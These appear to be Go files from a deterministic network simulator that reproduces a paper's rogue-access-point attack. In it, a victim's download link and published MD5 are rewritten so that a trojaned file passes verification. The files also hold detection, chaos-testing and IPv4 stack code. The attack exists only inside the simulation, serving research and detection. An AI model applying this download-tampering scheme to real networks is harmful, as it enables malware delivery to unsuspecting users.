		at = o.Campus.Kernel.Now()
	}
	o.Milestones = append(o.Milestones, Milestone{
		At:  at,
		Msg: fmt.Sprintf(format, args...),
	})
}

func runDownloadScenario(name string, cfg Config) *ScenarioOutcome {
	w := NewWorld(cfg)
	o := &ScenarioOutcome{Name: name, World: w}

	w.VictimConnect()
	w.Run(10 * sim.Second)
	o.milestonef("victim associated: %v (channel %d)", w.VictimAssociated(), w.Victim.STA.BSS().Channel)
	if w.Cfg.Rogue {
		o.milestonef("victim is on the ROGUE AP: %v; rogue uplink to CORP: %v",
			w.VictimOnRogue(), w.Rogue.UplinkUp)
	}
	if w.Cfg.VPNServer {
		w.EnableVictimVPN(nil, func(err error) {
			if err != nil {
				o.VPNErr = err
				return
			}
			o.VPNUp = true
		})
		w.Run(20 * sim.Second)
		if o.VPNUp {
			o.milestonef("VPN tunnel up: true (tunnel IP %v)", w.VictimVPN.TunnelIP())
		} else {
			o.milestonef("VPN tunnel up: false (err %v)", o.VPNErr)
		}
		if w.Cfg.Overlay {
			o.milestonef("overlay: client links up %d, route to exit: %q",
				w.OverlayClient.LinksUp(), w.OverlayClient.RouteDump())
		}
	}

	w.VictimDownload(func(r DownloadResult) { o.Download = r })
	w.Run(60 * sim.Second)

	if w.Faults != nil {
		// Recovery guarantee: at a fixed deadline after the last fault
		// clears, the network must be back in steady state.
		if deadline := w.Faults.LastEnd() + convergenceGrace; deadline > w.Kernel.Now() {
			w.Run(deadline - w.Kernel.Now())
		}
		o.Converged = w.Faults.Quiescent() && w.VictimAssociated() &&
			(!w.Cfg.VPNServer || (w.VictimVPN != nil && w.VictimVPN.Up()))
		o.milestonef("chaos converged: %v (faults applied %d, reverted %d)",
			o.Converged, w.Faults.Applied, w.Faults.Reverted)
		if w.Cfg.Overlay && w.VictimVPN != nil {
			o.milestonef("overlay healing: link reconnects %d, tunnel peer timeouts %d, rekeys %d",
				w.OverlayClient.LinkReconnects(), w.VictimVPN.PeerTimeouts, w.VictimVPN.Rekeys)
		}
	}
	o.Digest = w.Kernel.Digest()
	return o
}

func runDetectScenario(name string, cfg Config) *ScenarioOutcome {
	w := NewWorld(cfg)
	o := &ScenarioOutcome{Name: name, World: w}

	mon := w.NewSensor("sensor", phy.Position{X: 20}, 1)
	d := detect.New(w.Kernel, detect.Config{})
	d.Attach(mon)
	detect.NewHopper(w.Kernel, mon, 200*sim.Millisecond)
	d.OnAlert = func(a detect.Alert) { o.milestonef("ALERT: %v", a) }

	w.VictimConnect()
	w.Run(60 * sim.Second)
	o.Alerts = d.Alerts
	o.FramesSeen = d.FramesSeen
	o.Digest = w.Kernel.Digest()
	return o
}
