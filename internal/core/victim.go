package core

import (
	"bytes"
	"fmt"
	"strings"

	"repro/internal/httpx"
	"repro/internal/inet"
)

// DownloadResult records one run of the paper's victim behaviour: browse to
// the download page, follow the link, and verify the file against the
// page's published MD5 sum.
type DownloadResult struct {
	// Err is non-nil if any step failed outright.
	Err error
	// Href and PageMD5 are what the (possibly rewritten) page said.
	Href    string
	PageMD5 string
	// Body is the downloaded file.
	Body []byte
	// MD5OK reports whether the body matches the page's MD5 — the check
	// the victim actually performs.
	MD5OK bool
	// Tampered reports ground truth: the body differs from the genuine
	// file. The attack's punchline is Tampered && MD5OK.
	Tampered bool
	// LinkRedirected reports that the link pointed away from the original
	// site (the naive attack "reveals the real download IP").
	LinkRedirected bool
}

// Compromised reports the paper's success condition: the victim accepted a
// tampered file as verified.
func (r DownloadResult) Compromised() bool { return r.Err == nil && r.Tampered && r.MD5OK }

// Clean reports the download succeeded with the genuine file verified.
func (r DownloadResult) Clean() bool { return r.Err == nil && !r.Tampered && r.MD5OK }

// VictimDownload performs the full victim flow against the target site and
// calls done exactly once. The world must keep running (Run) until then.
func (w *World) VictimDownload(done func(DownloadResult)) {
	downloadFlow(w.VictimClient, inet.HostPort{Addr: WebServerIP, Port: 80}, w.Cfg.FileContents, done)
}

// downloadFlow is the shared victim behaviour: fetch the page, follow its
// link, verify the published MD5.
func downloadFlow(client *httpx.Client, pageHP inet.HostPort, genuine []byte, done func(DownloadResult)) {
	client.Get(pageHP, "/", func(res httpx.Result) {
		if res.Err != nil {
			done(DownloadResult{Err: fmt.Errorf("fetch page: %w", res.Err)})
			return
		}
		if res.Response.Status != 200 {
			done(DownloadResult{Err: fmt.Errorf("page status %d", res.Response.Status)})
			return
		}
		href, pageMD5, err := httpx.ParseDownloadPage(res.Response.Body)
		if err != nil {
			done(DownloadResult{Err: err})
			return
		}
		fileHP, path, perr := resolveHref(pageHP, href)
		if perr != nil {
			done(DownloadResult{Err: perr, Href: href, PageMD5: pageMD5})
			return
		}
		client.Get(fileHP, path, func(fres httpx.Result) {
			r := DownloadResult{
				Href:           href,
				PageMD5:        pageMD5,
				LinkRedirected: fileHP.Addr != pageHP.Addr,
			}
			if fres.Err != nil {
				r.Err = fmt.Errorf("fetch file: %w", fres.Err)
				done(r)
				return
			}
			if fres.Response.Status != 200 {
				r.Err = fmt.Errorf("file status %d", fres.Response.Status)
				done(r)
				return
			}
			r.Body = fres.Response.Body
			r.MD5OK = httpx.MD5Matches(r.Body, pageMD5)
			r.Tampered = !bytes.Equal(r.Body, genuine)
			done(r)
		})
	})
}

// VictimGet fetches an arbitrary path from the target web server as the
// victim — the casual browsing of §5.1's "trustworthy websites" scenario.
func (w *World) VictimGet(path string, done func(body []byte, err error)) {
	w.VictimClient.Get(inet.HostPort{Addr: WebServerIP, Port: 80}, path, func(res httpx.Result) {
		if res.Err != nil {
			done(nil, res.Err)
			return
		}
		if res.Response.Status != 200 {
			done(nil, fmt.Errorf("status %d", res.Response.Status))
			return
		}
		done(res.Response.Body, nil)
	})
}

// resolveHref turns a page link into a host/path pair: either relative to
// the page's server or an absolute http:// URL (the rewritten trojan link).
func resolveHref(page inet.HostPort, href string) (inet.HostPort, string, error) {
	if rest, ok := strings.CutPrefix(href, "http://"); ok {
		host, path, found := strings.Cut(rest, "/")
		if !found {
			path = ""
		}
		hp := inet.HostPort{Port: 80}
		if strings.Contains(host, ":") {
			parsed, err := inet.ParseHostPort(host)
			if err != nil {
				return inet.HostPort{}, "", err
			}
			hp = parsed
		} else {
			addr, err := inet.ParseAddr(host)
			if err != nil {
				return inet.HostPort{}, "", err
			}
			hp.Addr = addr
		}
		return hp, "/" + path, nil
	}
	return page, "/" + strings.TrimPrefix(href, "/"), nil
}
