package core

import (
	"testing"

	"repro/internal/faults"
)

// TestChaosSweepDeterminism is the (seed × schedule) determinism matrix: a
// chaos run's digest must be a pure function of the pair. Each point builds
// the healthy world with the schedule injected, runs it to its convergence
// deadline, and the whole matrix is evaluated twice through Sweep — so the
// replays also race against each other across worker goroutines, which
// catches any cross-world shared state in the fault engine.
func TestChaosSweepDeterminism(t *testing.T) {
	type point struct {
		seed     uint64
		schedule string
	}
	var pts []point
	for _, seed := range []uint64{1, 7, 42} {
		for _, schedule := range []string{"deauth-storm", "ap-restart", "burst-loss"} {
			pts = append(pts, point{seed, schedule})
		}
	}
	type result struct {
		digest    uint64
		converged bool
	}
	run := func(p point) result {
		o, err := RunScenarioFaults("healthy", p.seed, true, p.schedule)
		if err != nil {
			t.Errorf("seed %d schedule %q: %v", p.seed, p.schedule, err)
			return result{}
		}
		return result{digest: o.Digest, converged: o.Converged}
	}
	first := Sweep(pts, run)
	second := Sweep(pts, run)
	seen := make(map[uint64][]point)
	for i, p := range pts {
		if first[i].digest != second[i].digest {
			t.Errorf("seed %d schedule %q: digest diverged across replays: %016x != %016x",
				p.seed, p.schedule, first[i].digest, second[i].digest)
		}
		if first[i].digest == 0 {
			t.Errorf("seed %d schedule %q: zero digest", p.seed, p.schedule)
		}
		if !first[i].converged {
			t.Errorf("seed %d schedule %q: did not converge", p.seed, p.schedule)
		}
		seen[first[i].digest] = append(seen[first[i].digest], p)
	}
	// Different (seed, schedule) points must not collide: the digest has to
	// actually depend on both inputs.
	for d, ps := range seen {
		if len(ps) > 1 {
			t.Errorf("digest %016x shared by %d points: %v", d, len(ps), ps)
		}
	}
}

// TestWorldFaultsInstalled sanity-checks the Config.Faults plumbing: a named
// builtin resolves, the engine is armed, and a fault-free config leaves the
// world engine-less (so pre-chaos digests are untouched).
func TestWorldFaultsInstalled(t *testing.T) {
	w := NewWorld(Config{Seed: 1, Faults: "mixed"})
	if w.Faults == nil {
		t.Fatal("world built with Faults config has no engine")
	}
	if len(w.Faults.Schedule()) == 0 {
		t.Fatal("engine installed with empty schedule")
	}
	if w.CorpUplink == nil {
		t.Fatal("CorpUplink not retained")
	}
	plain := NewWorld(Config{Seed: 1})
	if plain.Faults != nil {
		t.Fatal("fault-free world grew a chaos engine")
	}
}

// TestWorldFaultsBadScheduleRejected pins the failure mode: an unparseable
// schedule is a construction-time panic, not a silent no-op.
func TestWorldFaultsBadScheduleRejected(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("bad schedule did not panic")
		}
	}()
	NewWorld(Config{Seed: 1, Faults: "explode@-1s"})
}

// TestBuiltinsWorkAgainstFullWorld runs every builtin schedule against the
// fully assembled world (VPN included, so the partition fault has targets)
// and requires convergence — no builtin may strand the network. Builtins
// that target overlay relays run against the mesh scenario, the only one
// with those hosts.
func TestBuiltinsWorkAgainstFullWorld(t *testing.T) {
	for _, name := range faults.BuiltinNames() {
		scenario := "vpn"
		if name == "relay-drop" {
			scenario = "mesh"
		}
		o, err := RunScenarioFaults(scenario, 1, true, name)
		if err != nil {
			t.Fatalf("builtin %q: %v", name, err)
		}
		if !o.Converged {
			t.Errorf("builtin %q: %s scenario did not converge", name, scenario)
		}
	}
}
