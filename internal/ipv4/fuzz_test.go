package ipv4

import (
	"bytes"
	"testing"

	"repro/internal/inet"
)

// FuzzPacket checks the IPv4 header codec. Unmarshal validates version, IHL,
// header checksum, and total length; anything it accepts must round-trip.
func FuzzPacket(f *testing.F) {
	p := Packet{
		TOS: 0, ID: 7, DF: true, TTL: DefaultTTL, Proto: ProtoTCP,
		Src:     inet.MustParseAddr("10.0.0.3"),
		Dst:     inet.MustParseAddr("198.18.0.80"),
		Payload: []byte("segment"),
	}
	f.Add(p.Marshal())
	icmpPkt := Packet{TTL: 1, Proto: ProtoICMP, Payload: (&ICMPMessage{Type: ICMPEchoRequest, ID: 1, Seq: 1}).Marshal()}
	f.Add(icmpPkt.Marshal())
	f.Add([]byte{0x45})
	f.Add(bytes.Repeat([]byte{0x44}, HeaderLen))

	f.Fuzz(func(t *testing.T, b []byte) {
		p1, err := Unmarshal(b)
		if err != nil {
			return
		}
		_ = p1.String()
		b2 := p1.Marshal()
		p2, err := Unmarshal(b2)
		if err != nil {
			t.Fatalf("re-decode of marshalled packet failed: %v", err)
		}
		if p1.TOS != p2.TOS || p1.ID != p2.ID || p1.DF != p2.DF || p1.TTL != p2.TTL ||
			p1.Proto != p2.Proto || p1.Src != p2.Src || p1.Dst != p2.Dst ||
			!bytes.Equal(p1.Payload, p2.Payload) {
			t.Fatalf("packet round-trip unstable:\n first %+v\nsecond %+v", p1, p2)
		}
	})
}

// FuzzICMP checks the ICMP codec the echo responder uses.
func FuzzICMP(f *testing.F) {
	f.Add((&ICMPMessage{Type: ICMPEchoRequest, ID: 1, Seq: 2, Data: []byte("ping")}).Marshal())
	f.Add((&ICMPMessage{Type: ICMPTimeExceeded, Code: 0}).Marshal())
	f.Add([]byte{8, 0, 0, 0})
	f.Fuzz(func(t *testing.T, b []byte) {
		m1, ok := UnmarshalICMP(b)
		if !ok {
			return
		}
		m2, ok := UnmarshalICMP(m1.Marshal())
		if !ok {
			t.Fatal("re-decode of marshalled ICMP message failed")
		}
		if m1.Type != m2.Type || m1.Code != m2.Code || m1.ID != m2.ID || m1.Seq != m2.Seq ||
			!bytes.Equal(m1.Data, m2.Data) {
			t.Fatalf("ICMP round-trip unstable: %+v != %+v", m1, m2)
		}
	})
}
