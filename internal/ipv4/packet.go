// Package ipv4 implements the simulated network layer: IPv4 packets, per-host
// stacks with interfaces and a longest-prefix routing table, forwarding with
// TTL handling, ICMP echo, and the hook points a Netfilter-style firewall
// (internal/netfilter) plugs into.
package ipv4

import (
	"encoding/binary"
	"errors"
	"fmt"

	"repro/internal/inet"
)

// Protocol numbers.
const (
	ProtoICMP uint8 = 1
	ProtoTCP  uint8 = 6
	ProtoUDP  uint8 = 17
)

// HeaderLen is the fixed header size (no options are modelled).
const HeaderLen = 20

// DefaultTTL is the initial hop limit for locally originated packets.
const DefaultTTL = 64

// Packet is a parsed IPv4 packet. NAT rewrites Src/Dst in place; Marshal
// recomputes the header checksum.
type Packet struct {
	TOS     uint8
	ID      uint16
	DF      bool
	TTL     uint8
	Proto   uint8
	Src     inet.Addr
	Dst     inet.Addr
	Payload []byte
}

// Len reports the packet's total length.
func (p *Packet) Len() int { return HeaderLen + len(p.Payload) }

// Marshal serialises the packet with a fresh header checksum.
func (p *Packet) Marshal() []byte {
	b := make([]byte, p.Len())
	p.putHeader(b[:HeaderLen], p.Len())
	copy(b[HeaderLen:], p.Payload)
	return b
}

// putHeader fills b (exactly HeaderLen bytes) with the packet's header for a
// datagram of total bytes, computing a fresh checksum. Every byte is written,
// so b may come from a recycled buffer.
func (p *Packet) putHeader(b []byte, total int) {
	b[0] = 0x45 // version 4, IHL 5
	b[1] = p.TOS
	binary.BigEndian.PutUint16(b[2:4], uint16(total))
	binary.BigEndian.PutUint16(b[4:6], p.ID)
	b[6], b[7] = 0, 0
	if p.DF {
		b[6] = 0x40
	}
	b[8] = p.TTL
	b[9] = p.Proto
	b[10], b[11] = 0, 0
	copy(b[12:16], p.Src[:])
	copy(b[16:20], p.Dst[:])
	sum := inet.Checksum(b[:HeaderLen])
	binary.BigEndian.PutUint16(b[10:12], sum)
}

// Unmarshal errors.
var (
	ErrShort       = errors.New("ipv4: short packet")
	ErrBadVersion  = errors.New("ipv4: not IPv4")
	ErrBadChecksum = errors.New("ipv4: header checksum mismatch")
)

// Unmarshal parses and validates a serialised packet. Payload aliases b.
func Unmarshal(b []byte) (Packet, error) {
	if len(b) < HeaderLen {
		return Packet{}, ErrShort
	}
	if b[0]>>4 != 4 {
		return Packet{}, ErrBadVersion
	}
	ihl := int(b[0]&0x0f) * 4
	if ihl < HeaderLen || len(b) < ihl {
		return Packet{}, ErrShort
	}
	if inet.Checksum(b[:ihl]) != 0 {
		return Packet{}, ErrBadChecksum
	}
	total := int(binary.BigEndian.Uint16(b[2:4]))
	if total < ihl || total > len(b) {
		return Packet{}, ErrShort
	}
	var p Packet
	p.TOS = b[1]
	p.ID = binary.BigEndian.Uint16(b[4:6])
	p.DF = b[6]&0x40 != 0
	p.TTL = b[8]
	p.Proto = b[9]
	copy(p.Src[:], b[12:16])
	copy(p.Dst[:], b[16:20])
	p.Payload = b[ihl:total]
	return p, nil
}

// String gives a compact trace form.
func (p *Packet) String() string {
	return fmt.Sprintf("%s > %s proto=%d ttl=%d len=%d", p.Src, p.Dst, p.Proto, p.TTL, p.Len())
}
