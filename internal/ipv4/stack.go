package ipv4

import (
	"fmt"
	"sort"

	"repro/internal/arp"
	"repro/internal/ethernet"
	"repro/internal/inet"
	pktbuf "repro/internal/pkt"
	"repro/internal/sim"
)

// HookPoint identifies where in the datapath a firewall hook runs —
// Netfilter's five classic chains.
type HookPoint int

// Hook points in packet-flow order.
const (
	HookPrerouting HookPoint = iota
	HookInput
	HookForward
	HookOutput
	HookPostrouting
)

// String names the hook point.
func (h HookPoint) String() string {
	switch h {
	case HookPrerouting:
		return "PREROUTING"
	case HookInput:
		return "INPUT"
	case HookForward:
		return "FORWARD"
	case HookOutput:
		return "OUTPUT"
	case HookPostrouting:
		return "POSTROUTING"
	}
	return "?"
}

// Verdict is a hook's decision.
type Verdict int

// Verdicts.
const (
	VerdictAccept Verdict = iota
	VerdictDrop
)

// Hook inspects (and may rewrite — NAT) a packet at a hook point. in/out
// are interface names ("" when not applicable).
type Hook interface {
	Filter(point HookPoint, pkt *Packet, in, out string) Verdict
}

// Handler consumes locally delivered packets of one protocol.
type Handler func(pkt *Packet, in string)

// Iface is one attachment of the stack to an L2 segment.
type Iface struct {
	Name   string
	NIC    ethernet.NIC
	Addr   inet.Addr
	Prefix inet.Prefix
	ARP    *arp.Client
	stack  *Stack
}

// Route is a routing-table entry. A zero Gateway means directly connected.
type Route struct {
	Prefix  inet.Prefix
	Gateway inet.Addr
	Iface   string
	Metric  int
}

// Stack is a host's IPv4 engine.
type Stack struct {
	kernel *sim.Kernel
	name   string
	ifaces []*Iface
	routes []Route
	// Forwarding enables routing between interfaces ("echo 1 >
	// /proc/sys/net/ipv4/ip_forward" in the paper's Appendix A).
	Forwarding  bool
	hooks       []Hook
	handlers    map[uint8]Handler
	nextID      uint16
	rng         *sim.RNG
	onEchoReply EchoCallback
	// partitioned isolates the host at L3: everything in or out is dropped
	// (the partition fault — an unplugged router, a dead VLAN).
	partitioned bool

	// Loop guard: outer bound on local deliver->send recursion via
	// loopback-style patterns. (Defensive; not normally hit.)

	// Counters.
	RxPackets, TxPackets, Forwarded uint64
	RxDropped, TTLExpired, NoRoute  uint64
	HookDrops, ChecksumErrors       uint64
	PartitionDrops                  uint64
}

// SetPartitioned cuts the host off the network (true) or reconnects it
// (false). While partitioned, every arriving frame (including ARP) and every
// outbound routed packet is dropped and counted in PartitionDrops; local
// loopback delivery still works, as it would on a real host.
func (s *Stack) SetPartitioned(on bool) { s.partitioned = on }

// Partitioned reports whether the host is currently isolated.
func (s *Stack) Partitioned() bool { return s.partitioned }

// NewStack creates a host stack. The name is used in traces.
func NewStack(k *sim.Kernel, name string) *Stack {
	return &Stack{
		kernel:   k,
		name:     name,
		handlers: make(map[uint8]Handler),
		rng:      k.RNG().Fork(),
	}
}

// Name reports the host name.
func (s *Stack) Name() string { return s.name }

// Kernel exposes the simulation kernel for transport layers built on top.
func (s *Stack) Kernel() *sim.Kernel { return s.kernel }

// AddIface attaches a NIC with an address, creating the connected route and
// the interface's ARP engine.
func (s *Stack) AddIface(name string, nic ethernet.NIC, addr inet.Addr, prefix inet.Prefix) *Iface {
	ifc := &Iface{
		Name:   name,
		NIC:    nic,
		Addr:   addr,
		Prefix: prefix,
		ARP:    arp.NewClient(s.kernel, nic, addr, arp.Config{}),
		stack:  s,
	}
	s.ifaces = append(s.ifaces, ifc)
	nic.SetReceiver(func(f ethernet.Frame) { s.onFrame(ifc, f) })
	s.AddRoute(Route{Prefix: prefix, Iface: name})
	return ifc
}

// Iface returns the named interface, or nil.
func (s *Stack) Iface(name string) *Iface {
	for _, ifc := range s.ifaces {
		if ifc.Name == name {
			return ifc
		}
	}
	return nil
}

// Ifaces lists the attached interfaces.
func (s *Stack) Ifaces() []*Iface { return s.ifaces }

// AddRoute installs a route. Routes are matched longest-prefix-first, then
// by metric.
func (s *Stack) AddRoute(r Route) {
	s.routes = append(s.routes, r)
	sort.SliceStable(s.routes, func(i, j int) bool {
		if s.routes[i].Prefix.Bits != s.routes[j].Prefix.Bits {
			return s.routes[i].Prefix.Bits > s.routes[j].Prefix.Bits
		}
		return s.routes[i].Metric < s.routes[j].Metric
	})
}

// AddHostRoute installs a /32 route via an interface — parprouted's
// route-installation callback.
func (s *Stack) AddHostRoute(ip inet.Addr, iface string) {
	s.AddRoute(Route{Prefix: inet.Prefix{Addr: ip, Bits: 32}, Iface: iface})
}

// AddDefaultRoute installs 0.0.0.0/0 via gw.
func (s *Stack) AddDefaultRoute(gw inet.Addr, iface string) {
	s.AddRoute(Route{Prefix: inet.MustParsePrefix("0.0.0.0/0"), Gateway: gw, Iface: iface})
}

// LookupRoute returns the best route for dst.
func (s *Stack) LookupRoute(dst inet.Addr) (Route, bool) {
	for _, r := range s.routes {
		if r.Prefix.Contains(dst) {
			return r, true
		}
	}
	return Route{}, false
}

// AddHook appends a firewall hook (evaluated in registration order).
func (s *Stack) AddHook(h Hook) { s.hooks = append(s.hooks, h) }

// Handle registers the local-delivery handler for an IP protocol.
func (s *Stack) Handle(proto uint8, h Handler) { s.handlers[proto] = h }

// IsLocal reports whether addr is one of the stack's own addresses or a
// broadcast address it should accept.
func (s *Stack) IsLocal(addr inet.Addr) bool {
	if addr.IsBroadcast() {
		return true
	}
	for _, ifc := range s.ifaces {
		if ifc.Addr == addr || ifc.Prefix.BroadcastAddr() == addr {
			return true
		}
	}
	return false
}

// SrcAddrFor picks a source address for reaching dst (the egress
// interface's address).
func (s *Stack) SrcAddrFor(dst inet.Addr) (inet.Addr, error) {
	r, ok := s.LookupRoute(dst)
	if !ok {
		return inet.Addr{}, fmt.Errorf("ipv4: no route to %s", dst)
	}
	ifc := s.Iface(r.Iface)
	if ifc == nil {
		return inet.Addr{}, fmt.Errorf("ipv4: route via missing interface %q", r.Iface)
	}
	return ifc.Addr, nil
}

func (s *Stack) runHooks(point HookPoint, pkt *Packet, in, out string) Verdict {
	for _, h := range s.hooks {
		if h.Filter(point, pkt, in, out) == VerdictDrop {
			s.HookDrops++
			return VerdictDrop
		}
	}
	return VerdictAccept
}

// Send originates a packet from this host. Src may be unspecified, in which
// case the egress interface address is used.
func (s *Stack) Send(src, dst inet.Addr, proto uint8, payload []byte) error {
	if src.IsUnspecified() {
		var err error
		src, err = s.SrcAddrFor(dst)
		if err != nil {
			return err
		}
	}
	s.nextID++
	pkt := &Packet{
		ID: s.nextID, TTL: DefaultTTL, Proto: proto,
		Src: src, Dst: dst, Payload: payload,
	}
	if s.runHooks(HookOutput, pkt, "", "") == VerdictDrop {
		return fmt.Errorf("ipv4: packet dropped by OUTPUT hook")
	}
	// Own unicast destination: deliver without touching the wire.
	// Broadcasts still go out (neighbours answer; we do not loop back).
	for _, ifc := range s.ifaces {
		if ifc.Addr == pkt.Dst {
			s.kernel.ScheduleAfter(0, func() { s.deliverLocal(pkt, "lo") })
			return nil
		}
	}
	return s.route(pkt, "", nil)
}

// SendBuf originates a packet whose payload already sits in an owned pooled
// buffer — the zero-copy transmit path. The IP header is pushed into the
// buffer's headroom. Ownership of pb transfers to the stack: it is released
// exactly once on every path, including errors.
func (s *Stack) SendBuf(src, dst inet.Addr, proto uint8, pb *pktbuf.Buf) error {
	if src.IsUnspecified() {
		var err error
		src, err = s.SrcAddrFor(dst)
		if err != nil {
			pb.Release()
			return err
		}
	}
	s.nextID++
	pkt := &Packet{
		ID: s.nextID, TTL: DefaultTTL, Proto: proto,
		Src: src, Dst: dst, Payload: pb.Bytes(),
	}
	if s.runHooks(HookOutput, pkt, "", "") == VerdictDrop {
		pb.Release()
		return fmt.Errorf("ipv4: packet dropped by OUTPUT hook")
	}
	// Own unicast destination: deliver without touching the wire. The
	// payload stays valid for the duration of the synchronous delivery.
	for _, ifc := range s.ifaces {
		if ifc.Addr == pkt.Dst {
			s.kernel.ScheduleAfter(0, func() {
				s.deliverLocal(pkt, "lo")
				pb.Release()
			})
			return nil
		}
	}
	return s.route(pkt, "", pb)
}

// route finds the egress and transmits (used by Send, SendBuf, and
// forwarding). pb, when non-nil, is an owned pooled buffer whose view is
// pkt.Payload; route takes ownership, pushes the IP header into its headroom,
// and releases it on every failure path. When pb is nil the payload is copied
// into a fresh pooled buffer at transmit time.
//
//simvet:owner transfer owns pb (which may be nil) and settles it on every path
func (s *Stack) route(pkt *Packet, inIface string, pb *pktbuf.Buf) error {
	release := func() {
		if pb != nil {
			pb.Release()
		}
	}
	if s.partitioned {
		s.PartitionDrops++
		release()
		return fmt.Errorf("ipv4: %s is partitioned", s.name)
	}
	r, ok := s.LookupRoute(pkt.Dst)
	if !ok {
		s.NoRoute++
		release()
		return fmt.Errorf("ipv4: no route to %s", pkt.Dst)
	}
	ifc := s.Iface(r.Iface)
	if ifc == nil {
		s.NoRoute++
		release()
		return fmt.Errorf("ipv4: route via missing interface %q", r.Iface)
	}
	if s.runHooks(HookPostrouting, pkt, inIface, ifc.Name) == VerdictDrop {
		release()
		return fmt.Errorf("ipv4: packet dropped by POSTROUTING hook")
	}
	nextHop := pkt.Dst
	if !r.Gateway.IsUnspecified() {
		nextHop = r.Gateway
	}
	s.TxPackets++
	if pb == nil {
		pb = s.kernel.BufPool().GetCopy(pkt.Payload)
	}
	total := HeaderLen + pb.Len()
	pkt.putHeader(pb.Push(HeaderLen), total)
	// Subnet broadcast goes to the L2 broadcast address.
	if pkt.Dst.IsBroadcast() || pkt.Dst == ifc.Prefix.BroadcastAddr() {
		ifc.NIC.SendBuf(ethernet.BroadcastMAC, ethernet.TypeIPv4, pb)
		return nil
	}
	ifc.ARP.Resolve(nextHop, func(mac ethernet.MAC, err error) {
		if err != nil {
			s.kernel.Tracef("ipv4", "%s: arp for %s failed: %v", s.name, nextHop, err)
			pb.Release()
			return
		}
		ifc.NIC.SendBuf(mac, ethernet.TypeIPv4, pb)
	})
	return nil
}

// onFrame handles an L2 frame arriving on ifc.
func (s *Stack) onFrame(ifc *Iface, f ethernet.Frame) {
	if s.partitioned {
		s.PartitionDrops++
		return
	}
	switch f.Type {
	case ethernet.TypeARP:
		ifc.ARP.HandleFrame(f.Payload)
	case ethernet.TypeIPv4:
		s.onPacket(ifc, f.Payload)
	}
}

func (s *Stack) onPacket(ifc *Iface, raw []byte) {
	pkt, err := Unmarshal(raw)
	if err != nil {
		if err == ErrBadChecksum {
			s.ChecksumErrors++
		}
		s.RxDropped++
		return
	}
	s.RxPackets++
	p := &pkt
	if s.runHooks(HookPrerouting, p, ifc.Name, "") == VerdictDrop {
		return
	}
	if s.IsLocal(p.Dst) {
		if s.runHooks(HookInput, p, ifc.Name, "") == VerdictDrop {
			return
		}
		s.deliverLocal(p, ifc.Name)
		return
	}
	if !s.Forwarding {
		s.RxDropped++
		return
	}
	// Forwarding path.
	if p.TTL <= 1 {
		s.TTLExpired++
		s.sendICMPTimeExceeded(p, ifc)
		return
	}
	p.TTL--
	if s.runHooks(HookForward, p, ifc.Name, "") == VerdictDrop {
		return
	}
	if err := s.route(p, ifc.Name, nil); err == nil {
		s.Forwarded++
	}
}

func (s *Stack) deliverLocal(pkt *Packet, in string) {
	if h, ok := s.handlers[pkt.Proto]; ok {
		h(pkt, in)
		return
	}
	if pkt.Proto == ProtoICMP {
		s.handleICMP(pkt, in)
		return
	}
	s.RxDropped++
}
