package ipv4

import (
	"testing"

	"repro/internal/inet"
	pktbuf "repro/internal/pkt"
)

// BenchmarkIPv4Push is the per-layer marshal bench gated by scripts/bench.sh:
// the zero-copy transmit path's header push — a pooled buffer cycles through
// Get, payload append, header push into headroom, Release, exactly as
// Stack.SendBuf drives it.
func BenchmarkIPv4Push(b *testing.B) {
	pool := pktbuf.NewPool()
	payload := make([]byte, 1400)
	p := &Packet{
		ID: 1, TTL: DefaultTTL, Proto: ProtoUDP,
		Src: inet.Addr{10, 0, 0, 1}, Dst: inet.Addr{10, 0, 0, 2},
	}
	b.SetBytes(int64(HeaderLen + len(payload)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		pb := pool.Get()
		pb.Append(payload)
		p.putHeader(pb.Push(HeaderLen), HeaderLen+len(payload))
		pb.Release()
	}
}
