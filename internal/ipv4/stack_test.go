package ipv4

import (
	"testing"
	"testing/quick"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/sim"
)

func TestPacketRoundTrip(t *testing.T) {
	p := Packet{
		TOS: 0x10, ID: 42, DF: true, TTL: 64, Proto: ProtoTCP,
		Src: inet.MustParseAddr("10.0.0.1"), Dst: inet.MustParseAddr("10.0.0.2"),
		Payload: []byte("segment"),
	}
	g, err := Unmarshal(p.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if g.TOS != p.TOS || g.ID != p.ID || g.DF != p.DF || g.TTL != p.TTL ||
		g.Proto != p.Proto || g.Src != p.Src || g.Dst != p.Dst || string(g.Payload) != "segment" {
		t.Fatalf("got %+v", g)
	}
}

func TestQuickPacketRoundTrip(t *testing.T) {
	f := func(tos uint8, id uint16, ttl uint8, proto uint8, src, dst [4]byte, payload []byte) bool {
		p := Packet{TOS: tos, ID: id, TTL: ttl, Proto: proto,
			Src: inet.Addr(src), Dst: inet.Addr(dst), Payload: payload}
		g, err := Unmarshal(p.Marshal())
		if err != nil {
			return false
		}
		if g.TOS != tos || g.ID != id || g.TTL != ttl || g.Proto != proto ||
			g.Src != p.Src || g.Dst != p.Dst || len(g.Payload) != len(payload) {
			return false
		}
		for i := range payload {
			if g.Payload[i] != payload[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestUnmarshalRejectsCorruption(t *testing.T) {
	p := Packet{TTL: 64, Proto: ProtoUDP, Src: inet.MustParseAddr("1.2.3.4"), Dst: inet.MustParseAddr("5.6.7.8")}
	raw := p.Marshal()
	raw[8] ^= 0xff // corrupt TTL
	if _, err := Unmarshal(raw); err != ErrBadChecksum {
		t.Fatalf("err = %v, want ErrBadChecksum", err)
	}
	if _, err := Unmarshal(raw[:10]); err != ErrShort {
		t.Fatal("short accepted")
	}
	raw2 := p.Marshal()
	raw2[0] = 0x65 // version 6
	if _, err := Unmarshal(raw2); err != ErrBadVersion {
		t.Fatal("bad version accepted")
	}
}

func TestICMPMessageRoundTrip(t *testing.T) {
	m := ICMPMessage{Type: ICMPEchoRequest, ID: 7, Seq: 3, Data: []byte("ping data")}
	g, ok := UnmarshalICMP(m.Marshal())
	if !ok || g.Type != m.Type || g.ID != 7 || g.Seq != 3 || string(g.Data) != "ping data" {
		t.Fatalf("g=%+v ok=%v", g, ok)
	}
	bad := m.Marshal()
	bad[8] ^= 1
	if _, ok := UnmarshalICMP(bad); ok {
		t.Fatal("corrupted ICMP accepted")
	}
}

// lanHost is a stack attached to a switch.
type lanHost struct {
	stack *Stack
	port  *ethernet.Port
}

// lan builds n hosts 10.0.0.1..n on one switch.
